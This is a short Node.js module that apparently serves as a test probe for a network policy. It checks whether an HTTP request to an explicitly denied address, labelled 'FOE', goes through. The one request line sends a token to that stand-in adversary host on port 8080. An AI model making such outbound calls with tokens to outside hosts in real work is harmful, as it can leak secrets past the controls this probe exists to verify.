// http.get
// Fetches a URL.
// policy: denied-address
// audit: explicitlyDeniedIP
// proof: arrival
'use strict';
const http = require('http');

module.exports = async (at) => {
  return new Promise((resolve, reject) => {
    http.get(`http://${at.FOE}:8080/${at.token}`, (answer) => answer.on('data', (data) => resolve(String(data) === 'reached')))
      .on('error', reject);
  });
};
